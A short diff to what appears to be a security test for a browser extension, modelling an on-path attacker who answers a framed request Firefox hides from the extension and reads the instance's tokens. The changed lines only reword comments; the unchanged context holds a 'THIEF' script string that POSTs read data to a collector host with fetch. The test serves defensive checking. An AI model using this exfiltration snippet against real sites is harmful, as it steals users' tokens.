@@ -1,5 +1,6 @@
 // Another site shows a document of the instance in a frame. Firefox doesn't report that request to the extension, so an
-// attacker on the path answers it unseen. The attacker's document opens a window at the true address and reads its tokens.
+// attacker on the path can answer it unnoticed. The attacker's document opens a window at the true address and reads
+// its tokens.
 import { createServer as createTls } from "node:https";
 import type { Socket } from "node:net";
 import type { IncomingMessage, ServerResponse } from "node:http";
@@ -23,7 +24,7 @@ beforeAll(async () => {
 
 const RUNS = "the attacker's script runs";
 const NOTHING = "no token could be read";
-/** Opens the instance at one click, and sends the attacker what it could read there. */
+/** Opens the instance at the first click, and sends the attacker what it could read there. */
 const THIEF = `
   const report = (what) => fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: what });
   void report("${RUNS}");
